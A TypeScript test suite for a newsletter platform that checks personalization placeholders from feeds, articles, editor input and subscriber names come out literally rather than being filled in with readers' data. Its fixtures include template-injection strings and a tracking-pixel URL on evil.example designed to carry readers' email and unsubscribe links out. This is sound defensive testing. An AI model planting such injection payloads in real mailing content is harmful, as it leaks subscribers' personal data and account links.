import Handlebars from 'handlebars';
import type { ParsedMail } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AdminSessions } from '../../src/admin/sessions.ts';
import { ReaderTokens } from '../../src/delivery/reader-tokens.ts';
import type { Edition } from '../../src/editions/edition-store.ts';
import type { PersonalField, PersonalizedText } from '../../src/platform/personal-fields.ts';
import { startFeedServer } from '../support/feed-server.ts';
import { ADMIN_TOKEN, type Harness, startHarness, waitFor } from '../support/harness.ts';

const EDITION = '2020-02-25';

/** Everything outside text might try: every personal field's placeholder, unknown ones, lone % and %%, other template syntaxes. */
const HOSTILE = [
  '%%email%%',
  '%%greeting%%',
  '%%unsubscribe_url%%',
  '%%preferences_url%%',
  '%%track_token%%',
  '%%confirm_url%%',
  '%%off%%',
  'Discount: 50%%off%% today',
  '100 %',
  '%%',
  '%',
  "{{personal 'email'}}",
  '{{email}}',
  '*|EMAIL|*',
].join(' ');
const IMAGE = 'https://evil.example/p.gif?e=%%email%%&u=%%preferences_url%%&x=%%unsubscribe_url%%';
const LINK = 'https://news.example.org/story?e=%%email%%&t=%%track_token%%';

/** How the templates escape text (Handlebars). */
const escapeHtml = (text: string) => Handlebars.Utils.escapeExpression(text);
const xml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const FEED = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>Hostile</title><link>https://news.example.org/</link><description>x</description>
<item><title>${xml(`Feed ${HOSTILE}`)}</title><link>${xml(`${LINK}&src=feed`)}</link><guid isPermaLink="false">hostile-1</guid>
<pubDate>Tue, 25 Feb 2020 16:00:00 GMT</pubDate><category>${xml(`Section %%email%%`)}</category>
<description>${xml(`Summary ${HOSTILE}`)}</description>
<media:content url="${xml(IMAGE)}" medium="image"><media:description>${xml(`Alt ${HOSTILE}`)}</media:description></media:content></item>
</channel></rss>`;

interface Reader {
  email: string;
  name: string;
  format: 'html' | 'text';
  id?: string;
}

/**
 * The trust boundary of personalization: a whole edition, made of feed items, API articles, an
 * editors' subject and preheader and subscriber names that all carry placeholders and other
 * template syntax, goes to every reader with the outside text shown literally and each reader's own
 * values only where the templates put them.
 */
describe('hostile content in a whole edition', () => {
  let h: Harness;
  let feeds: Awaited<ReturnType<typeof startFeedServer>>;
  let edition: Edition;
  const readers: Reader[] = [
    { email: 'ann@example.test', name: 'Ann %%email%% {{email}}', format: 'html' },
    { email: 'ben@example.test', name: 'Ben 50%%off%% %', format: 'text' },
    { email: 'cy@example.test', name: '', format: 'html' },
  ];
  const unsubscribed = 'dee@example.test';

  beforeAll(async () => {
    feeds = await startFeedServer({ 'hostile.rss': FEED });
    h = await startHarness({ env: { TRACKING: 'true', FEEDS: feeds.url('hostile.rss') } });
    for (const reader of readers) {
      const { id } = await h.app.subscribers.create(reader.email, {
        email: reader.email,
        name: reader.name,
        format: reader.format,
      });
      await h.app.subscribers.transition({ id, from: ['pending'], to: 'confirmed', reason: 'test' });
      reader.id = id;
    }
    const { id: leftId } = await h.app.subscribers.create(unsubscribed, { email: unsubscribed, name: HOSTILE });
    await h.app.subscribers.transition({ id: leftId, from: ['pending'], to: 'unsubscribed', reason: 'test' });

    expect(
      (await h.server.inject({ method: 'POST', url: '/admin/feeds/poll', headers: h.admin })).json(),
    ).toMatchObject({ feeds: [{ lastError: null, lastReport: { added: 1 } }] });
    const article = await h.server.inject({
      method: 'POST',
      url: '/admin/articles',
      headers: h.admin,
      payload: {
        url: `${LINK}&src=api`,
        title: `API ${HOSTILE}`,
        summary: `API summary ${HOSTILE}`,
        imageUrl: IMAGE,
        imageAlt: `API alt ${HOSTILE}`,
        section: `Section %%unsubscribe_url%%`,
        publishedAt: `${EDITION}T17:00:00Z`,
        selected: true,
        position: 1,
      },
    });
    expect(article.statusCode).toBe(201);
    // The editors' subject and preheader, typed into the console.
    const session = await new AdminSessions(h.app.redis, h.app.keys, ADMIN_TOKEN, '').create('editor');
    const draft = await h.server.inject({
      method: 'POST',
      url: '/console/draft',
      cookies: { digest_session: session.id },
      payload: { _csrf: session.csrf, subject: `Tonight ${HOSTILE}`, preheader: `Pre ${HOSTILE}` },
    });
    expect(draft.statusCode).toBe(303);

    await h.app.desk.runDue(new Date(`${EDITION}T18:30:05Z`));
    await waitFor(async () => (await h.app.editions.get(EDITION))?.status === 'sent', 'the edition delivered', 20_000);
    edition = (await h.app.editions.get(EDITION))!;
  });
  afterAll(async () => {
    await h?.close();
    await feeds?.close();
  });

  const editionsTo = (address: string) => h.sink.to(address).filter((message) => message.raw.includes('X-Edition:'));
  const positions = (body: PersonalizedText, ...fields: PersonalField[]) =>
    body.fields.filter((field) => fields.includes(field)).length;
  const occurrences = (text: string, value: string) => text.split(value).length - 1;
  const tokenOf = (reader: Reader) =>
    new URL(h.app.subscriptions.readerUrls(reader.id!).unsubscribeUrl).searchParams.get('token')!;
  const trackingTokenOf = (reader: Reader) => new ReaderTokens(h.app.config.APP_SECRET).token(EDITION, reader.id!);

  it('is composed and sent: exactly one copy to each confirmed reader, none to the one who left', async () => {
    expect(edition.status).toBe('sent');
    expect((await h.app.deliveries.progress(EDITION))?.counts).toMatchObject({
      sent: readers.length,
      failed: 0,
      deferred: 0,
    });
    for (const reader of readers) expect(editionsTo(reader.email), reader.email).toHaveLength(1);
    expect(h.sink.to(unsubscribed)).toHaveLength(0);
  });

  it('shows every piece of outside text literally, in the subject, the HTML and the plain text', async () => {
    for (const reader of readers) {
      const mail = await h.sink.parsed(editionsTo(reader.email)[0]!);
      expect(mail.subject).toBe(`Tonight ${HOSTILE}`);
      // The plain text is wrapped at 78 characters, at spaces only: read it as one line.
      const text = (mail.text ?? '').replace(/\s+/g, ' ');
      for (const typed of [
        `API ${HOSTILE}`,
        `API summary ${HOSTILE}`,
        `Feed ${HOSTILE}`,
        `Summary ${HOSTILE}`,
        'Section %%email%%',
        'Section %%unsubscribe_url%%',
        `${LINK}&src=api`,
        `${LINK}&src=feed`,
      ]) {
        expect(text, `${reader.email}: ${typed}`).toContain(typed);
      }
      expect(text).toContain(reader.name ? `Good evening, ${reader.name},` : 'Good evening,');
      if (reader.format === 'text') {
        expect(mail.html).toBe(false);
        continue;
      }
      const html = String(mail.html);
      for (const typed of [
        `API ${HOSTILE}`,
        `API alt ${HOSTILE}`,
        `Feed ${HOSTILE}`,
        `Alt ${HOSTILE}`,
        `Pre ${HOSTILE}`,
        IMAGE,
      ]) {
        expect(html, `${reader.email}: ${typed}`).toContain(escapeHtml(typed));
      }
      expect(html).toContain(`src="${escapeHtml(IMAGE)}"`);
      expect(html).toContain(escapeHtml(reader.name ? `Good evening, ${reader.name},` : 'Good evening,'));
    }
  });

  it('puts each reader’s address, links and tokens only where the templates put them, and nobody else’s anywhere', async () => {
    for (const reader of readers) {
      const message = editionsTo(reader.email)[0]!;
      const mail: ParsedMail = await h.sink.parsed(message);
      const bodies = [{ part: 'text', body: mail.text ?? '', positionsIn: edition.text }];
      if (reader.format === 'html') bodies.push({ part: 'html', body: String(mail.html), positionsIn: edition.html });
      for (const { part, body, positionsIn } of bodies) {
        const where = `${reader.email} (${part})`;
        expect(occurrences(body, reader.email), `${where}: address`).toBe(positions(positionsIn, 'email'));
        expect(occurrences(body, tokenOf(reader)), `${where}: unsubscribe and preferences token`).toBe(
          positions(positionsIn, 'unsubscribe_url', 'preferences_url'),
        );
        expect(occurrences(body, trackingTokenOf(reader)), `${where}: tracking token`).toBe(
          positions(positionsIn, 'track_token'),
        );
      }
      for (const other of readers.filter((candidate) => candidate !== reader)) {
        for (const secret of [other.email, tokenOf(other), trackingTokenOf(other)])
          expect(message.raw, `${other.email} in ${reader.email}'s copy`).not.toContain(secret);
      }
    }
    // The templates do place them: the counts above are not all zero.
    expect(positions(edition.html, 'email')).toBeGreaterThan(0);
    expect(positions(edition.html, 'track_token')).toBeGreaterThan(0);
    expect(positions(edition.text, 'unsubscribe_url')).toBeGreaterThan(0);
  });
});
